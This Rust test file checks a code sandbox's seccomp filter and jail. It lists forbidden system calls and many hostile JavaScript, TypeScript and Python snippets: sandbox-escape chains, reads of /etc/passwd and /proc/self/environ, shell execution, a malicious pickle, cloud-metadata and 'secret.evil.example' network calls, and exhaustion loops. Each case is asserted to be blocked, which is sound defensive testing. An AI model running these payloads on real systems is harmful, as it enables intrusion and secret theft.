//! Attacks on the jail: raw system calls, and hostile code of both languages, at each level this kernel gives.

use crate::support::{self, Worker, Zygote, echo, job, signal};
use athena_schemas::risk::Limits;
use athena_schemas::wire::{FaultKind, FromWorker, Language};
use std::io::Read;
use std::os::fd::AsRawFd;
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::process::{Command, ExitStatus, Stdio};

/// System calls the filter must answer with the end.
const KILLED: &[&str] = &[
    "open",
    "openat",
    "openat2",
    "stat",
    "unlink",
    "mkdir",
    "chdir",
    "mount",
    "pivot_root",
    "chroot",
    "socket",
    "socket_unix",
    "connect",
    "bind",
    "sendmsg",
    "recvmsg",
    "read_other",
    "write_other",
    "dup",
    "fcntl",
    "ioctl",
    "pipe",
    "execve",
    "fork",
    "vfork_clone",
    "clone3",
    "unshare",
    "setns",
    "setuid",
    "setresuid",
    "capset",
    "prctl",
    "seccomp",
    "ptrace",
    "process_vm_readv",
    "pidfd_open",
    "kill_parent",
    "kill_all",
    "tgkill_other",
    "mmap_exec",
    "mprotect_exec",
    "mmap_file",
    "memfd",
    "shmget",
    "msgget",
    "io_uring",
    "bpf",
    "perf",
    "userfaultfd",
    "keyctl",
    "add_key",
    "reboot",
    "init_module",
    "sethostname",
    "settime",
    "setpriority",
    "sched_setaffinity",
    "limit_other",
    "replace_handler",
    "block_and_open",
    #[cfg(target_arch = "x86_64")]
    "x32_getpid",
    #[cfg(target_arch = "x86_64")]
    "x32_open",
    #[cfg(target_arch = "x86_64")]
    "iopl",
    #[cfg(target_arch = "x86_64")]
    "int80",
];

/// Calls that go through and do nothing.
const DENIED: &[&str] = &["raise_limit", "mmap_huge"];

/// Levels this kernel gives, found by trying.
pub(crate) fn levels() -> Vec<&'static str> {
    let full = Worker::start(&[]);
    let given = full.ready.level.clone();
    full.close();
    if given == "full" { vec!["full", "seccomp"] } else { vec!["seccomp"] }
}

/// Makes one raw call in the jail: what was said, the forbidden call that was named at last, and how it ended.
pub(crate) fn attempt(level: &str, name: &str) -> (String, Option<u32>, ExitStatus) {
    let (mut ours, theirs) = UnixStream::pair().unwrap();
    let fd = theirs.as_raw_fd();
    let mut command = Command::new(env!("CARGO_BIN_EXE_athena-worker"));
    command.args(["__attack", level, name]).env_clear().stdin(Stdio::null());
    // SAFETY: dup2 is async-signal-safe, and clears close-on-exec on the copy.
    unsafe {
        command.pre_exec(move || {
            // Others are left open for the jail to close.
            for copy in [3, 7, 63, 500] {
                if libc::dup2(fd, copy) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
    let mut child = command.spawn().unwrap();
    drop(theirs);
    let mut said = Vec::new();
    ours.read_to_end(&mut said).unwrap();
    let status = child.wait().unwrap();
    // Two letters of the start, two more where the call came back, or a frame.
    match said.get(2..6).map(|head| u32::from_le_bytes(head.try_into().unwrap())) {
        Some(length) => {
            assert_eq!(said.len(), 6 + length as usize, "{name}");
            let FromWorker::Trapped { call } = postcard::from_bytes(&said[6..]).unwrap() else {
                panic!("{name}: {said:?}");
            };
            said.truncate(2);
            (String::from_utf8(said).unwrap(), Some(call), status)
        }
        None => (String::from_utf8(said).unwrap(), None, status),
    }
}

/// Whether the filter ended the process for it: nothing came back, and the end is named or outright.
pub(crate) fn ended(level: &str, name: &str) -> bool {
    let (said, named, status) = attempt(level, name);
    let told = named.is_some() && status.code() == Some(athena_worker::FORBIDDEN);
    said.len() == 2 && (told || signal(status) == Some(libc::SIGSYS))
}

/// Every system call there is, by its number: what is not on the list kills. (Arguments of those on the list are tried above.)
#[test]
#[cfg(target_arch = "x86_64")]
fn stride_e04() {
    // read, write, mmap, mprotect, prlimit64, tgkill and those of computing; 0 as every argument.
    let mut listed = vec![
        3, 7, 9, 10, 11, 12, 13, 14, 15, 24, 25, 28, 39, 60, 96, 98, 131, 186, 202, 219, 228, 231, 271, 302,
        318,
    ];
    // `uretprobe` and `uprobe`, which the kernel answers before any filter, and only to its own trampolines.
    listed.extend([335, 336]);
    let mut died = 0;
    for number in (0..=462).filter(|number| !listed.contains(number)) {
        assert!(ended("seccomp", &format!("syscall:{number}")), "system call {number}");
        died += 1;
    }
    assert!(died > 430, "{died}");
}

/// Every kind of socket there is: none can be made, at any level of the jail.
#[test]
fn stride_e05() {
    for level in levels() {
        for family in [
            libc::AF_UNIX,
            libc::AF_INET,
            libc::AF_INET6,
            libc::AF_NETLINK,
            libc::AF_PACKET,
            libc::AF_VSOCK,
            libc::AF_ALG,
            libc::AF_BLUETOOTH,
            44,
        ] {
            for kind in [libc::SOCK_STREAM, libc::SOCK_DGRAM, libc::SOCK_RAW] {
                assert!(ended(level, &format!("socket:{family},{kind}")), "{family} {kind} at {level}");
            }
        }
    }
}

/// Names and abstract sockets as a channel: there is no resolver to ask and no socket to name, and where the kernel gives
/// namespaces, no interface either.
#[test]
fn stride_e06() {
    for level in levels() {
        for attack in [
            "socket_unix",
            "connect",
            "bind",
            "sendmsg",
            "recvmsg",
            "syscall:44",
            "syscall:307",
            "syscall:299",
        ] {
            // `sendto` is on the list for the one socket there is; anything else is death.
            assert!(ended(level, attack), "{attack} at {level}");
        }
    }
    for (language, code) in [
        (Language::JavaScript, "await import('dns')"),
        (
            Language::JavaScript,
            "new URL('http://secret.evil.example/'); fetch('http://secret.evil.example/')",
        ),
        (Language::Python, "import socket\nsocket.getaddrinfo('secret.evil.example', 80)"),
    ] {
        assert!(Worker::start(&[]).run(job(language, code), echo).unwrap().finish.result.is_err(), "{code}");
    }
}

#[test]
fn forbidden_system_calls_kill() {
    for level in levels() {
        let ready = if level == "full" { "RF" } else { "RS" };
        let (said, _, status) = attempt(level, "none");
        assert_eq!((said, status.success()), (format!("{ready}S1"), true));
        for name in KILLED {
            let (said, named, status) = attempt(level, name);
            assert_eq!(said, ready, "{name} at {level} went on: {status}");
            // Another architecture's call, and one where the handler cannot run, are killed outright; every other one is named.
            let told = named.is_some() && status.code() == Some(athena_worker::FORBIDDEN);
            assert!(told || signal(status) == Some(libc::SIGSYS), "{name} at {level}: {status}");
            assert!(told || ["int80", "block_and_open"].contains(name), "{name} at {level} was not named");
        }
        for (name, number) in
            [("openat", libc::SYS_openat), ("socket", libc::SYS_socket), ("clone3", libc::SYS_clone3)]
        {
            assert_eq!(attempt(level, name).1, u32::try_from(number).ok(), "{name} at {level}");
        }
        for name in DENIED {
            let (said, _, status) = attempt(level, name);
            assert_eq!((said, status.success()), (format!("{ready}S0"), true), "{name} at {level}");
        }
    }
}

#[test]
fn an_engine_that_aborts_says_so_and_not_that_memory_was_full() {
    for level in levels() {
        let (_, _, status) = attempt(level, "abort");
        assert_eq!(status.code(), Some(athena_worker::ABORTED), "{level}");
    }
}

/// How hostile code may end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum End {
    /// A value that shows the attack found nothing, or an error.
    Denied,
    /// A limit ended it.
    Limited,
    /// The filter killed it.
    Killed,
    /// It broke its own worker, by whatever means; the server sees a worker that left or does not keep to the protocol.
    Broken,
}

const JAVASCRIPT: &[(&str, End)] = &[
    ("this.constructor.constructor('return process')()", End::Denied),
    ("globalThis.constructor.constructor('return 1')()", End::Denied),
    ("[].constructor.constructor('return this')()", End::Denied),
    ("(async function* () {}).constructor('yield 1')()", End::Denied),
    ("Reflect.construct((() => {}).constructor, ['return 1'])()", End::Denied),
    ("athena.semantic.search.constructor('return process')()", End::Denied),
    ("callMCPTool.constructor.constructor('return 1')()", End::Denied),
    ("(0, eval)('1')", End::Denied),
    ("setTimeout('globalThis.x = 1', 0)", End::Denied),
    ("import('fs')", End::Denied),
    ("await import('../../etc/passwd')", End::Denied),
    ("await import('data:text/javascript,export default 1')", End::Denied),
    ("await import('node:child_process')", End::Denied),
    ("await import('/mcp-servers/../../etc/passwd')", End::Denied),
    ("await import('/skills/%2e%2e/%2e%2e/etc/passwd.ts')", End::Denied),
    ("require('fs')", End::Denied),
    ("process.env", End::Denied),
    ("new WebAssembly.Module(new Uint8Array(8))", End::Denied),
    ("new Worker('data:text/javascript,1')", End::Denied),
    ("fetch('http://169.254.169.254/')", End::Denied),
    ("new XMLHttpRequest()", End::Denied),
    ("Deno.readTextFile('/etc/passwd')", End::Denied),
    ("std.open('/etc/passwd', 'r')", End::Denied),
    ("os.exec(['sh'])", End::Denied),
    ("new ArrayBuffer(5e9)", End::Denied),
    ("new SharedArrayBuffer(5e9)", End::Denied),
    ("'x'.repeat(2 ** 29) + 'y'.repeat(2 ** 29)", End::Denied),
    ("Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)", End::Denied),
    ("callMCPTool('a\\0b', {})", End::Denied),
    (
        "Object.defineProperty(Promise.prototype, 'then', { value() { throw 1 } }); await athena.semantic.search({})",
        End::Denied,
    ),
    ("Promise = class { constructor() { throw 1 } }; await athena.semantic.search({})", End::Denied),
    (
        "JSON.parse = () => ({ stolen: 1 }); JSON.stringify = () => '{}'; (await athena.semantic.search({ q: 1 })).params.q === 1",
        End::Denied,
    ),
    (
        "Object.prototype.op = 'x/y'; Object.prototype.toJSON = function () { return 7 }; await athena.semantic.search({ q: 1 })",
        End::Denied,
    ),
    ("Object.prototype.then = function (go) { go('pwned') }; await athena.semantic.search({})", End::Denied),
    ("Array.prototype[Symbol.iterator] = function* () {}; await athena.semantic.search({})", End::Denied),
    ("athena = null", End::Denied),
    ("athena.semantic.search = 1", End::Denied),
    ("athena.semantic.__proto__.x = 1", End::Denied),
    ("Object.setPrototypeOf(athena, { x: 1 })", End::Denied),
    ("session = { state: 1 }", End::Denied),
    ("Object.defineProperty(session, 'state', { get() { for (;;); } }); 1", End::Denied),
    (
        "await athena.semantic.search(new Proxy({}, { get() { throw 1 }, ownKeys() { throw 2 } }))",
        End::Denied,
    ),
    ("await athena.semantic.search({ get a() { return athena.semantic.search({}) } })", End::Denied),
    ("const a = {}; a.a = a; await athena.semantic.search(a)", End::Denied),
    ("await athena.semantic.search({ toJSON() { for (;;); } })", End::Limited),
    ("function f() { athena.semantic.search({ get a() { return f() } }) } f()", End::Denied),
    ("({ get x() { throw new Error('late') } })", End::Denied),
    ("throw { get message() { throw 1 }, get name() { throw 2 }, get stack() { throw 3 } }", End::Denied),
    ("throw new Proxy({}, { get() { for (;;); } })", End::Limited),
    (
        "Error.prepareStackTrace = (e, frames) => frames.map((f) => f.getFunction?.()); new Error().stack",
        End::Denied,
    ),
    (
        "Error.stackTraceLimit = 1e9; (function f(n) { if (n) f(n - 1); throw new Error('deep') })(500)",
        End::Denied,
    ),
    (
        "Symbol.species; class P extends Promise { static get [Symbol.species]() { throw 1 } } await new P((go) => go(1)).then(() => 2)",
        End::Denied,
    ),
    ("while (true) {}", End::Limited),
    ("for (;;) await null", End::Limited),
    ("const f = () => queueMicrotask(f); f(); await new Promise(() => {})", End::Limited),
    ("new FinalizationRegistry(() => { for (;;); }).register({}, 1); for (;;) ({})", End::Limited),
    ("try { for (;;); } finally { for (;;); }", End::Limited),
    ("/(x+x+)+y/.test('x'.repeat(60))", End::Limited),
    ("[1, 2].sort(() => { for (;;); })", End::Limited),
    ("const a = []; for (;;) a.push(a.slice())", End::Limited),
    ("let s = 'a'; for (;;) s += s", End::Denied),
    ("const m = new Map(); for (let i = 0; ; i++) m.set(i, 'v' + i)", End::Limited),
    ("let j = '['.repeat(1e6); JSON.parse(j)", End::Denied),
    ("for (;;) console.log('x'.repeat(1e5))", End::Limited),
    ("for (;;) athena.semantic.search({})", End::Limited),
    ("for (;;) setTimeout(() => {}, 0)", End::Limited),
    ("class A { static { for (;;); } }", End::Limited),
    ("`${{ toString() { for (;;); } }}`", End::Limited),
    ("new Date(8.64e15 + 1).toISOString()", End::Denied),
    ("new RegExp('('.repeat(1e5))", End::Denied),
    ("({}).__proto__.polluted = 1; ({}).polluted", End::Denied),
];

const PYTHON: &[(&str, End)] = &[
    ("().__class__.__base__.__subclasses__()", End::Denied),
    ("(lambda: 0).__globals__", End::Denied),
    ("(lambda: 0).__code__", End::Denied),
    ("(x for x in [1]).gi_frame.f_back", End::Denied),
    ("__import__('os').system('id')", End::Denied),
    ("eval('1')", End::Denied),
    ("exec('x = 1')", End::Denied),
    ("compile('1', 'x', 'eval')", End::Denied),
    ("open('/etc/passwd').read()", End::Denied),
    ("open('/tmp/x', 'w').write('x')", End::Denied),
    ("import pathlib\npathlib.Path('/etc/passwd').read_text()", End::Denied),
    ("import pathlib\nlist(pathlib.Path('/').iterdir())", End::Denied),
    ("import os\nos.environ", End::Denied),
    ("import os\nos.system('id')", End::Denied),
    ("import subprocess", End::Denied),
    ("import socket", End::Denied),
    ("import ctypes\nctypes.CDLL(None).execve", End::Denied),
    ("import importlib", End::Denied),
    ("globals()['__builtins__']", End::Denied),
    ("getattr(athena, '__class__').__init__", End::Denied),
    ("athena.semantic.__dict__", End::Denied),
    ("athena._secret", End::Denied),
    ("'{0.__class__.__mro__}'.format(athena)", End::Denied),
    ("try:\n    raise ValueError()\nexcept ValueError as e:\n    r = e.__traceback__.tb_frame", End::Denied),
    ("callMCPTool('a\\0b')", End::Denied),
    ("9**9**9", End::Limited),
    ("[0] * 10**10", End::Limited),
    ("'a' * 10**10", End::Limited),
    ("while True: pass", End::Limited),
    ("while True:\n    try:\n        while True: pass\n    except BaseException: pass", End::Limited),
    ("x = [1]\nwhile True: x += x", End::Limited),
    ("x = {}\ni = 0\nwhile True:\n    x[i] = str(i) * 100\n    i += 1", End::Limited),
    ("def f(): return f()\nf()", End::Denied),
    ("x = []\nfor i in range(100000): x = [x]\nx", End::Denied),
    ("import json\njson.loads('[' * 100000)", End::Denied),
    ("while True: athena.semantic.search(q=1)", End::Limited),
    ("while True: print('x' * 10000)", End::Limited),
    ("sum(range(10**12))", End::Limited),
];

const TYPESCRIPT: &[(&str, End)] = &[
    ("enum E { A = (() => { throw new Error('early') })() }", End::Denied),
    ("namespace N { export const f = Function('return this')() }", End::Denied),
    ("class A { constructor(private x = eval('1')) {} } new A()", End::Denied),
    ("import fs = require('fs')", End::Denied),
    ("declare const process: any; process.env", End::Denied),
    ("const x = <any>globalThis; x.Function('return 1')()", End::Denied),
    ("@(() => { for (;;); }) class A {}", End::Denied),
    ("type A<T> = T extends [infer H, ...infer R] ? A<R> : never; while (true as boolean) {}", End::Limited),
];

/// Against the host's CPython: what its language lets through must meet the kernel.
const CPYTHON: &[(&str, End)] = &[
    ("import os\nos.system('id')", End::Killed),
    ("import os\nos.fork()", End::Killed),
    ("import os\nos.execv('/bin/sh', ['sh'])", End::Killed),
    ("import os\nos.posix_spawn('/bin/sh', ['sh'], {})", End::Killed),
    ("import os\nos.kill(1, 9)", End::Killed),
    ("import os\nos.kill(-1, 9)", End::Killed),
    ("import os\nos.setuid(0)", End::Killed),
    ("import os\nos.pipe()", End::Killed),
    ("import os\nos.dup(3)", End::Killed),
    ("import os\nos.read(0, 1)", End::Killed),
    ("import os\nos.write(9, b'x')", End::Killed),
    ("import os\nos.sched_setaffinity(0, {0})", End::Killed),
    ("import os\nos.memfd_create('x')", End::Killed),
    ("import os\nos.chroot('/')", End::Killed),
    ("import os\nos.setns(3, 0) if hasattr(os, 'setns') else os.fork()", End::Killed),
    ("import socket\nsocket.socket()", End::Killed),
    ("import socket\nsocket.create_connection(('169.254.169.254', 80))", End::Killed),
    ("import socket\nsocket.getaddrinfo('example.com', 80)", End::Killed),
    ("import select\nselect.epoll()", End::Killed),
    ("import signal\nsignal.pthread_kill(1 << 40, 9)", End::Broken),
    ("import _thread\n_thread.start_new_thread(print, ())", End::Denied),
    ("import threading\nthreading.Thread(target=print).start()", End::Denied),
    ("import subprocess\nsubprocess.run(['id'])", End::Killed),
    ("import multiprocessing\nmultiprocessing.Process(target=print).start()", End::Denied),
    ("import ctypes\nctypes.CDLL(None).execve", End::Denied),
    ("import _ctypes", End::Denied),
    ("import _posixsubprocess", End::Denied),
    ("import resource", End::Denied),
    ("__import__('ctypes')", End::Denied),
    ("import sys\ndel sys.modules['ctypes']\nimport ctypes", End::Denied),
    ("import importlib\nimportlib.reload(__import__('os'))\nopen('/etc/passwd').read()", End::Denied),
    ("open('/etc/passwd').read()", End::Denied),
    ("open('/proc/self/environ').read()", End::Denied),
    ("open('/proc/self/mem', 'rb').read(1)", End::Denied),
    ("import os\nos.open('/etc/shadow', os.O_RDONLY)", End::Denied),
    ("import os\nos.listdir('/')", End::Denied),
    ("import os\nos.stat('/etc/passwd')", End::Denied),
    ("import os\nos.unlink('/tmp/x')", End::Denied),
    ("import os\nos.mkdir('/tmp/x')", End::Denied),
    ("import os\nos.symlink('/etc/passwd', '/tmp/x')", End::Denied),
    ("import os\ndict(os.environ)", End::Denied),
    ("import pathlib\npathlib.Path('/etc/passwd').read_text()", End::Denied),
    ("import tempfile\ntempfile.TemporaryFile()", End::Denied),
    ("import io\nio.FileIO('/etc/passwd').read()", End::Denied),
    ("import zipfile\nzipfile.ZipFile('/tmp/x.zip', 'w')", End::Denied),
    ("import logging\nlogging.FileHandler('/tmp/log')", End::Denied),
    ("import linecache\nlinecache.getlines('/etc/passwd')", End::Denied),
    ("().__class__.__base__.__subclasses__()", End::Denied),
    (
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'FileIO'][0]('/etc/passwd').read()",
        End::Denied,
    ),
    ("import sys\nsys._getframe(1).f_globals['CONFIG']['filters'].clear()", End::Denied),
    ("import sys\nsys._getframe(1).f_globals['LIBC'].system(b'id')", End::Killed),
    ("import sys\nsys._getframe(1).f_globals['send'](b'\\xff' * 100)", End::Broken),
    ("import sys\nsys._getframe(1).f_globals['real_send'](3, b'\\xff\\xff\\xff\\xff')", End::Broken),
    ("import os\nos._exit(0)", End::Broken),
    ("import os\nos.close(3)", End::Broken),
    ("import os\nos.abort()", End::Broken),
    ("import sys\nsys.settrace(lambda *a: 1 / 0)", End::Denied),
    ("import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)", End::Broken),
    ("import signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\n1", End::Denied),
    (
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.signal(signal.SIGPROF, signal.SIG_IGN)\n1",
        End::Denied,
    ),
    ("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")", End::Killed),
    ("eval('__import__(\"os\").system(\"id\")')", End::Killed),
    ("exec('import socket; socket.socket()')", End::Killed),
    ("type('X', (), {'__del__': lambda s: __import__('os').fork()})()\n1", End::Killed),
    (
        "class M(type):\n    def __call__(c): return open('/etc/passwd')\nclass A(metaclass=M): pass\nA().read()",
        End::Denied,
    ),
    ("import re\nre.match('(a+)+$', 'a' * 60 + 'b')", End::Limited),
    ("x = 3\nwhile True: x = x * x", End::Limited),
    ("'x' * 10**10 + 'y' % ()", End::Limited),
    ("x = [1]\nwhile True: x += x % 2 if 0 else x\nclass A(list): pass", End::Limited),
    ("def g():\n    while True: yield 1\nsum(g())", End::Limited),
    ("import itertools, enum\nlist(itertools.count())", End::Limited),
    (
        "class A(Exception): pass\nwhile True:\n    try:\n        while True: pass\n    except BaseException: pass",
        End::Limited,
    ),
    ("class A(dict): pass\nwhile True: print('x' * 10000)", End::Limited),
    ("class A(dict): pass\nwhile True: athena.semantic.search(q=1)", End::Limited),
    ("import decimal\ndecimal.Decimal(10) ** 10**9 % 7", End::Denied),
    ("import hashlib\nhashlib.scrypt(b'x', salt=b'y', n=2**20, r=8, p=1, maxmem=2**31)", End::Denied),
    ("import json\nclass A(dict): pass\njson.loads('[' * 100000)", End::Denied),
    ("athena.semantic.search = 1\nclass A(dict): pass", End::Denied),
];

/// The limits hostile code is given.
const TIGHT: Limits = Limits { wall_ms: 4_000, cpu_ms: 300, calls: 50, memory_mb: 32, ..Limits::BALANCED };

/// Nothing of the host is to be seen in what a worker said.
fn shows_nothing(what: &str, shown: &str) {
    for canary in ["root:x:", "CARGO", "PATH=", "/work", "169.254.169.254\\\": \\\"2"] {
        assert!(!shown.contains(canary), "{what} shows {canary}: {shown}");
    }
}

fn limited(trace: &support::Trace) -> bool {
    matches!(&trace.finish.result, Err(fault) if matches!(
        fault.kind,
        FaultKind::TimedOut | FaultKind::OutOfMemory | FaultKind::Limit
    ))
}

/// Whatever hostile code does, its worker ends in one of the ways a server can tell, and shows nothing of the host.
fn survive(language: Language, cases: &[(&str, End)]) {
    for level in levels() {
        let zygote = Zygote::start(&["--level", level, "--zygote", "yes"]);
        for (code, end) in cases {
            let job = support::Job { limits: TIGHT, ..job(language, code) };
            let trace = match zygote.worker().run(job, echo) {
                Ok(trace) => trace,
                Err(status) => panic!("{code} at {level} killed its worker: {status}"),
            };
            shows_nothing(code, &format!("{:?} {:?}", trace.finish, trace.logs));
            assert!(limited(&trace) || *end == End::Denied, "{code} at {level}: {:?}", trace.finish.result);
        }
    }
}

#[test]
fn stride_e02_hostile_javascript_is_contained() {
    survive(Language::JavaScript, JAVASCRIPT);
}

#[test]
fn hostile_typescript_is_contained() {
    survive(Language::TypeScript, TYPESCRIPT);
}

#[test]
fn stride_e03_hostile_python_is_contained() {
    survive(Language::Python, PYTHON);
}

/// The guard would stop most of this; here the jail stands alone.
#[test]
fn hostile_code_in_the_host_s_python_is_contained() {
    for level in levels() {
        let zygote = Zygote::python(&["--level", level]);
        let mut otherwise = Vec::new();
        for (code, end) in CPYTHON {
            let job = support::Job { limits: TIGHT, ..job(Language::Python, code) };
            let ended = zygote.worker().attack(job);
            shows_nothing(code, &format!("{ended:?}"));
            let as_told = match (&ended, end) {
                (Ok(_), End::Denied) => true,
                (Ok(trace), End::Limited) => limited(trace),
                (Err(status), End::Killed) => {
                    signal(*status) == Some(libc::SIGSYS) || status.code() == Some(athena_worker::FORBIDDEN)
                }
                // A worker that is attacked from within may hold together all the same.
                (Ok(trace), End::Broken) => trace.finish.result.is_err(),
                (Err(_), End::Broken) => true,
                (Ok(_), End::Killed) | (Err(_), End::Denied | End::Limited) => false,
            };
            if !as_told {
                otherwise.push(format!("{code}: not {end:?} but {ended:?}"));
            }
        }
        assert!(otherwise.is_empty(), "at {level}:\n{}", otherwise.join("\n"));
        // Whoever reaches for the network is told from the rest.
        let reaching =
            support::Job { limits: TIGHT, ..job(Language::Python, "import socket\nsocket.socket()") };
        assert_eq!(zygote.worker().attack(reaching).unwrap_err().code(), Some(athena_worker::FORBIDDEN));
        // The one they are all copies of is as it was.
        let trace = zygote.worker().run(job(Language::Python, "1 + 1"), echo).unwrap();
        assert_eq!(trace.finish.result, Ok("2".into()));
    }
}

#[test]
fn deep_code_is_refused_and_not_parsed() {
    for (language, bomb) in [
        (Language::TypeScript, "("),
        (Language::TypeScript, "!"),
        (Language::TypeScript, "a=>"),
        (Language::TypeScript, "`${"),
        (Language::TypeScript, "if(1)"),
        (Language::TypeScript, "-  "),
        (Language::TypeScript, "{a:"),
        (Language::TypeScript, "typeof "),
        (Language::Python, "("),
        (Language::Python, "not "),
        (Language::Python, "["),
        (Language::Python, "-"),
        (Language::Python, "lambda:"),
    ] {
        let code = bomb.repeat((250 << 10) / bomb.len());
        let finish = Worker::start(&[]).run(job(language, &code), echo).unwrap().finish;
        assert_eq!(finish.result.unwrap_err().kind, FaultKind::Syntax, "{bomb}");
    }
}

#[test]
fn code_does_not_run_below_the_least_level() {
    let (ours, theirs) = UnixStream::pair().unwrap();
    let fd = theirs.as_raw_fd();
    let mut command = Command::new(env!("CARGO_BIN_EXE_athena-worker"));
    command.args([athena_worker::WORKER, "--level", "none"]).env_clear();
    // SAFETY: dup2 is async-signal-safe, and clears close-on-exec on the copy.
    unsafe {
        command.pre_exec(
            move || if libc::dup2(fd, 3) < 0 { Err(std::io::Error::last_os_error()) } else { Ok(()) },
        );
    }
    let status = command.status().unwrap();
    drop((ours, theirs));
    assert_eq!(status.code(), Some(athena_worker::JAIL_FAILED));
    let told = Worker::start(&["--level", "none", "--least", "none"]);
    assert_eq!(told.ready.level, "none");
}
